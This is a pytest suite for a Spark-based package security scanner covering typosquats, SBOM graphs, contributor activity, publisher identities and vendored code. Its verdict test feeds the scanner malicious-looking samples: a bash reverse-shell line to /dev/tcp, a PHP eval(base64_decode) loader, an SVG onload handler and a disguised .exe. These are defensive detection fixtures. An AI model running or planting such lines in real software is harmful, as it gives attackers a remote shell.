"""Look-alike index, facets, activity, fixes, SBOM graphs, reconciliation and verdicts, against brute force and with odd rows."""

import datetime
import hashlib
import json
import random
from collections import Counter, defaultdict

import pytest
from pyspark.sql import functions as F

from cratewarden.operators import activity as Y
from cratewarden.operators import audit as A
from cratewarden.operators import content as C
from cratewarden.operators import facets as X
from cratewarden.operators import graph as H
from cratewarden.operators import identities as P
from cratewarden.operators import integrity as I
from cratewarden.operators import vendored as V
from cratewarden.operators import verdicts as W

LETTERS = "abcdefgh"


def word(rng, low=3, high=12):
    return "".join(rng.choices(LETTERS, k=rng.randint(low, high)))


def edits(a, b):
    row = list(range(len(b) + 1))
    for i, x in enumerate(a, 1):
        row, last = [i], row
        for j, y in enumerate(b, 1):
            row.append(min(last[j] + 1, row[-1] + 1, last[j - 1] + (x != y)))
    return row[-1]


def test_registry_of_names(spark):
    """Every look-alike that all pairs give, from candidates that are a small part of them."""
    rng = random.Random(4)
    popular = sorted({word(rng, 1) for _ in range(20000)})
    names = sorted({word(rng, 1) for _ in range(150)} | {p[:2] + rng.choice(LETTERS) + p[3:] for p in rng.sample(popular, 60)})
    components = spark.createDataFrame([("p", n, "1") for n in names] + [("p", None, "1"), ("p", "", "1")], "package_id string, name string, version string")
    registry = spark.createDataFrame([(p,) for p in popular] + [(None,), (popular[0],)], "name string")
    expected = set()
    for name in names:
        if name in set(popular):
            continue
        near = min(((d, p) for p in popular if abs(len(p) - len(name)) <= 2 and (d := edits(name, p)) <= 2), default=None)
        if near:
            expected.add((name, near[1], near[0]))
    assert {(r.name, r.target, r.distance) for r in A.typosquat(components, registry).filter("name <> ''").collect()} == expected
    keys = components.filter("name is not null").select(F.lit("flat").alias("list"), F.col("name").alias("key"))
    assert A.shared_deletions(keys, A.registry_keys(registry), 2).count() < 0.05 * len(names) * len(popular)
    assert A.typosquat(components, registry.limit(0)).count() == A.typosquat(components.limit(0), registry).count() == 0


def test_vendor_names(spark):
    registry = spark.createDataFrame([("guzzlehttp/guzzle",), ("monolog",)], "name string")
    names = ["guzzlehttp/guzle", "guzzlehttp/guzzle", "guzzlehttq/guzzle", "monollog", "other/monolog", "other/monolg"]
    components = spark.createDataFrame([("p", n, "1") for n in names], "package_id string, name string, version string")
    got = {r.name: (r.target, r.distance, r.stage) for r in A.typosquat(components, registry).collect()}
    assert got == {"guzzlehttp/guzle": ("guzzlehttp/guzzle", 1, "full"), "guzzlehttq/guzzle": ("guzzlehttp/guzzle", 1, "full"), "monollog": ("monolog", 1, "package"), "other/monolg": ("monolog", 1, "package")}


def test_tree_digest_of_a_large_package(spark):
    files = [("big", f"dir/{k % 97}/f{k}", str(k % 1000)) for k in range(60000)] + [("small", "a", "x"), ("small", "a", "w"), ("small", None, "y"), ("small", "b", None), (None, "a", "x")]
    got = {r.package_id: r.digest for r in I.tree_digest(spark.createDataFrame(files, "package_id string, path string, content string").repartition(7)).collect()}
    lines = defaultdict(list)
    for package, path, text in files:
        if text is not None:
            lines[package].append(((path or "").encode(), hashlib.sha256(text.encode()).hexdigest().encode()))
    assert got == {p: hashlib.sha256(b"".join(h + b"  " + path + b"\n" for path, h in sorted(found))).hexdigest() for p, found in lines.items()}
    assert I.tree_digest(spark.createDataFrame([], "package_id string, path string, content string")).count() == 0


@pytest.mark.parametrize("seed", [1, 2])
def test_facets(spark, seed):
    rng = random.Random(seed)
    rows = [(rng.choice(["MIT", "GPL", "ISC", None]), rng.choice(["5.6", "7.4", "7.10", "8.0"]), rng.choice(["a", "b"]), rng.random() < 0.01) for _ in range(70000)]
    index = X.facet_index(spark.createDataFrame(rows, "license string, php string, kind string, rare boolean"), "license", "php", "kind", "rare").cache()
    show = lambda v: v if v is None or isinstance(v, str) else str(v).lower()
    order = {"5.6": 0, "7.4": 1, "7.10": 2, "8.0": 3}
    tests = {"license": (F.col("value").isin("MIT", "ISC"), lambda v: v in ("MIT", "ISC")), "php": (X.version_order(F.col("value")) <= X.version_order(F.lit("7.10")), lambda v: order[v] <= 2), "kind": (F.col("value") != "b", lambda v: v != "b"), "rare": (F.col("value") == "true", lambda v: v)}
    for chosen in ([], ["php"], ["license", "php"], ["license", "php", "kind", "rare"]):
        expected = Counter()
        for row in rows:
            for k, facet in enumerate(("license", "php", "kind", "rare")):
                if all(tests[f][1](row[("license", "php", "kind", "rare").index(f)]) for f in chosen if f != facet):
                    expected[facet, show(row[k])] += 1
        assert {(r.facet, r.value): r.n for r in X.facet_counts(index, **{f: tests[f][0] for f in chosen}).collect()} == expected
    assert X.facet_counts(index, license=F.col("value") == "none", kind=F.col("value") == "a").filter("facet = 'php'").count() == 0
    assert X.facet_counts(index.limit(0), kind=F.col("value") == "a").count() == 0


def test_activity(spark):
    """Sketches of parts, merged, give contributors within 3 % of the exact count."""
    rng = random.Random(9)
    months = [datetime.datetime(2024, m, 3) for m in (1, 2, 3, 6)]
    commits = [("big", f"a{rng.randrange(30000)}", rng.choice(months)) for _ in range(40000)] + [("small", "x", months[0]), ("small", "x", months[2]), ("small", "y", months[2]), ("small", None, months[2]), ("small", "z", None)]
    df = spark.createDataFrame(commits, "package_id string, author string, ts timestamp")
    merged = Y.merge_sketches(Y.activity_sketches(df.filter("ts < '2024-03-01'")), Y.activity_sketches(df.filter("ts >= '2024-03-01'")))
    for spans in (1, 3, 12):
        got = {(r.package_id, r.period.month): (r.commits, r.contributors) for r in Y.sliding_activity(merged, spans).collect()}
        for (package, month), (n, authors) in got.items():
            inside = [a for p, a, t in commits if p == package and t and month - spans < t.month <= month]
            assert n == len(inside)
            exact = len({a for a in inside if a})
            assert abs(authors - exact) <= 0.03 * exact
        assert {m for p, m in got if p == "small"} == {m for m in range(1, 7) if any(m - spans < k <= m for k in (1, 3))}


def test_version_order(spark):
    versions = ["0.9", "1.0-alpha", "1.0-alpha.1", "1.0-beta.2", "1.0-beta.10", "1.0-rc1", "1.0", "1.0.1", "1.2", "1.9.9", "1.10", "2.0-dev", "v2.0.0", "10.0"]
    keys = {r.v: r.k for r in spark.createDataFrame([(v,) for v in versions], "v string").select("v", Y.version_key(F.col("v")).alias("k")).collect()}
    assert sorted(versions, key=keys.get) == versions
    same = spark.createDataFrame([("1.0", "v1.0.0+build.5"), ("1", "1.0.0"), ("2.0-RC1", "2.0-rc.1")], "a string, b string").select(F.min(Y.version_key(F.col("a")) == Y.version_key(F.col("b")))).first()[0]
    assert same


def test_first_fixes(spark):
    day = lambda n: datetime.date(2024, 1, 1) + datetime.timedelta(n)
    releases = [("p", "1.0", day(0)), ("p", "1.2", day(10)), ("p", "1.10", day(20)), ("p", "v1.10.0", day(15)), ("p", "2.0-rc1", day(30)), ("p", "4.0", day(40)), ("q", "1.0", day(5)), ("p", None, day(1))]
    affected = [("p", "a", "1.2", day(12)), ("p", "b", "1.10", day(12)), ("p", "c", "2.0", day(12)), ("p", "d", "4.0", day(12)), ("q", "e", "0.1", day(9)), ("r", "f", "1", day(0)), ("p", "g", "0.5", None)]
    got = {r.vuln_id: (r.version, r.released, r.days) for r in Y.first_fixes(spark.createDataFrame(affected, "package_id string, vuln_id string, last_affected string, exposed date"), spark.createDataFrame(releases, "package_id string, version string, released date")).collect()}
    assert got == {"a": ("v1.10.0", day(15), 3), "b": ("2.0-rc1", day(30), 18), "c": ("4.0", day(40), 28), "d": (None, None, None), "e": ("1.0", day(5), -4), "f": (None, None, None), "g": ("1.0", day(0), None)}


def test_sbom_graph(spark):
    nodes = [("p", "s", n, n == "root") for n in ("root", "a", "b", "c", "d", "lone", "x", "y")] + [("q", "s", "a", False), ("q", "s", "root", True), ("q", "s", None, True)]
    edges = [("root", "a"), ("root", "b"), ("a", "c"), ("b", "c"), ("c", "d"), ("d", "a"), ("d", "d"), ("x", "y"), ("y", "x"), ("a", "outside"), ("outside", "d")]
    links = spark.createDataFrame([("p", "s", s, t) for s, t in edges] + [("p", "s", "root", "a")], "package_id string, sbom_id string, source string, target string")
    components = spark.createDataFrame(nodes, "package_id string, sbom_id string, spdxid string, is_root boolean")
    got = {(r.package_id, r.spdxid): (r.depth, r.reach) for r in H.component_depths(components, links).collect()}
    assert got == {
        ("p", "root"): (0, "root"), ("p", "a"): (1, "direct"), ("p", "b"): (1, "direct"), ("p", "c"): (2, "transitive"), ("p", "d"): (3, "transitive"), ("p", "lone"): (None, "unreachable"), ("p", "x"): (None, "unreachable"),
        ("p", "y"): (None, "unreachable"), ("q", "root"): (0, "root"), ("q", "a"): (None, "unreachable"),
    }
    assert H.component_depths(components.limit(0), links).count() == 0
    document = {"spdxVersion": "SPDX-2.3", "relationships": [{"spdxElementId": a, "relationshipType": k, "relatedSpdxElement": b} for a, k, b in [("r", "CONTAINS", "a"), ("b", "DEPENDENCY_OF", "a"), ("r", "OTHER", "c"), ("r", "CONTAINS", None)]]}
    read = H.read_relationships(spark.createDataFrame([("p", "s", json.dumps(document)), ("q", "s", "{"), ("t", "s", None)], "package_id string, sbom_id string, content string"))
    assert {(r.source, r.target) for r in read.collect()} == {("r", "a"), ("a", "b")}


def test_reconciliation(spark):
    make = lambda *rows: spark.createDataFrame(list(rows), "package_id string, name string, version string")
    a, b, c = make(("p", "x", "1"), ("p", "x", "1"), ("p", "y", "1"), ("q", "z", None)), make(("p", "x", "1"), ("p", "y", "2")), make(("p", "x", "1"), ("p", "y", "1"), (None, "n", "1"))
    got = {(r.package_id, r.name, r.version): (r.sources, r.held, r.versions, r.verdict) for r in H.reconcile_sboms(a=a, b=b, c=c).collect()}
    assert got == {("p", "x", "1"): (7, 3, 1, "agreed"), ("p", "y", "1"): (5, 2, 2, "majority"), ("p", "y", "2"): (2, 1, 2, "minority"), ("q", "z", None): (1, 1, 1, "agreed"), (None, "n", "1"): (4, 1, 1, "agreed")}


def test_verdicts(spark, tmp_path):
    """A library in a thousand packages is judged once, a second run judges nothing, and findings are those of the scan."""
    library = "function f() {}\neval(base64_decode('x'));\n"
    files = [(f"p{k}", "lib/shared.php", library) for k in range(1000)] + [("p1", "a.svg", "<svg onload = 'x()'>"), ("p1", "b.jpg", "<?php echo 1;"), ("p2", "c.txt", "bash -i >& /dev/tcp/1.1.1.1/1 0>&1"), ("p2", "c.woff", "bash -i >& /dev/tcp/1.1.1.1/1 0>&1"), ("p3", "d.txt", ""), ("p3", "e.txt", None), ("p4", "f.php", library), ("p5", "inv.pdf.exe", "x")]
    df = C.sniff_mime(spark.createDataFrame(files, "package_id string, path string, content string")).withColumn("size", F.coalesce(F.octet_length("content").cast("long"), F.lit(0).cast("long")))
    listed, path = W.with_digest(df), f"file://{tmp_path}/verdicts"
    assert W.judge_new(listed, path) == 6
    assert W.judge_new(listed, path) == 0
    assert W.judge_new(listed.unionByName(W.with_digest(df.filter("path = 'a.svg'").withColumn("content", F.lit("new")))), path) == 1
    rows = lambda d: sorted(tuple(r) for r in d.select("package_id", "path", "kind", "type", "severity").collect())
    expected = rows(C.all_content_findings(df))
    assert rows(W.findings(listed.drop("content"), W.known_verdicts(spark, path))) == expected and len(expected) > 1000


def test_publishers(spark):
    """Equal to union-find, through chains, with common keys that don't link."""
    rng = random.Random(6)
    records = [(f"p{k:04}", rng.choice([None, "", "Admin", f"Ann  {rng.randrange(400)}"]), rng.choice([None, f"mailto:U{rng.randrange(500)}@d{rng.randrange(3)}.x", f"u{rng.randrange(500)}@own{k % 90}.x"]), rng.choice([None, None, "Forge.Example"])) for k in range(400)]
    records += [(f"c{k:03}", f"link {k // 2}", None, f"x{(k + 1) // 2}.y") for k in range(120)] + [(None, "Ann 1", None, None), ("p0001", "Ann 2", None, None), ("none", None, None, None)]
    shown = lambda t: None if t is None or not t.strip() else " ".join(t.lower().removeprefix("mailto:").split())
    packages = defaultdict(set)
    for package, author, address, domain in records:
        if package:
            a = shown(address)
            for key in (("author", shown(author)), ("address", a), ("domain", shown(domain) or (a and a.split("@")[1]))):
                if key[1]:
                    packages[key].add(package)
    parent = {r[0]: r[0] for r in records if r[0]}

    def root(x):
        while parent[x] != x:
            x = parent[x]
        return x

    for members in packages.values():
        if len(members) <= 20:
            first = root(min(members))
            for m in members:
                a, b = sorted((root(m), first))
                parent[b], first = a, a
    expected = {p: root(p) for p in parent}
    frame = spark.createDataFrame(records, "package_id string, author string, address string, domain string").withColumns({"least": F.lit(1), "label": F.lit("x")})
    got = P.publisher_identities(frame, most=20)
    assert {r.package_id: r.publisher for r in got.collect()} == expected
    assert len({v for k, v in expected.items() if k.startswith("c")}) == 1
    verdicts = spark.createDataFrame([("c003", "FLAGGED"), ("c003", "CLEAN"), ("c004", "CLEAN"), ("c005", "SUSPICIOUS"), ("c006", "odd"), ("none", None)], "package_id string, verdict string")
    rolled = {r.publisher: r[1:] for r in P.publisher_rollup(got, verdicts, ("FLAGGED", "SUSPICIOUS", "CLEAN")).collect()}
    assert rolled["c000"] == (120, 3, "FLAGGED", 2) and rolled["none"] == (1, 0, None, 0)
    assert P.publisher_identities(frame.limit(0)).count() == 0


def test_vendored_libraries(spark):
    """Copies that are reformatted and edited are found at 0.9 recall or more, and little else; headers that all share name no library."""
    rng = random.Random(11)
    code = lambda n: "\n".join(f"function {word(rng)}_{word(rng)}($a) {{ return {word(rng)}($a, {rng.randrange(999)}); }}" for _ in range(n))
    header = "/* Permission is hereby granted, free of charge, to any person obtaining a copy of this software */\n" * 3
    libraries = {f"lib{k}": header + code(rng.randint(8, 60)) for k in range(60)} | {"tiny": "x();", "none": None, "only header": header}
    files, planted = [], set()
    for k in range(80):
        body = [header, code(40)]
        for name in rng.sample([n for n in libraries if n.startswith("lib")], rng.randint(0, 3)):
            lines = libraries[name].split("\n")
            lines = [li.upper().replace("(", " ( ") if rng.random() < 0.3 else li for li in lines if rng.random() > 0.1]
            lines = [li.replace("return", "return  $x +") if rng.random() < 0.15 else li for li in lines]
            body.append("\n".join(lines))
            planted.add((f"p{k}", name))
        files += [(f"p{k}", "\n\t".join(body))]
    files += [("empty", ""), ("null", None), (None, libraries["lib1"])]
    index = V.library_index(spark.createDataFrame(list(libraries.items()), "library string, content string"), most=20).cache()
    assert {r.library for r in index.select("library").distinct().collect()} == {n for n in libraries if n.startswith("lib")}
    found = V.vendored_libraries(spark.createDataFrame(files, "package_id string, content string"), index).cache()
    got = {(r.package_id, r.library) for r in found.collect()}
    print("vendored: recall", len(got & planted) / len(planted), "precision", len(got & planted) / len(got))
    assert len(got & planted) >= 0.9 * len(planted) and len(got & planted) >= 0.98 * len(got)
    some = sorted(got & planted)[:3]
    components = spark.createDataFrame([(some[0][0], some[0][1].upper()), (some[1][0], "lib0 "), ("p0", "tiny"), ("other", "lib2")], "package_id string, name string")
    verdicts = {(r.package_id, r.library): r.verdict for r in V.declared_and_found(found, components, index).collect()}
    assert verdicts[some[0]] == "declared" and verdicts[some[2]] == "undeclared" and verdicts["other", "lib2"] == "unused" and ("p0", "tiny") not in verdicts and len(verdicts) == len(got) + 1


def test_winnowing():
    """Texts that share enough in a row share a fingerprint, whatever their spacing and case."""
    rng = random.Random(13)
    for _ in range(200):
        shared = "".join(rng.choices("abcdefgh", k=V.GRAM + V.WINDOW - 1))
        a, b = (("".join(rng.choices("ijklmnop", k=rng.randint(0, 60))) + shared + "".join(rng.choices("qrstuv", k=rng.randint(0, 60)))) for _ in range(2))
        assert set(V.winnowed(a.encode())) & set(V.winnowed(" \n".join(b.upper()).encode()))
    assert len(V.winnowed(b"short")) == 0 and len(V.winnowed(b"a" * 500)) == 1
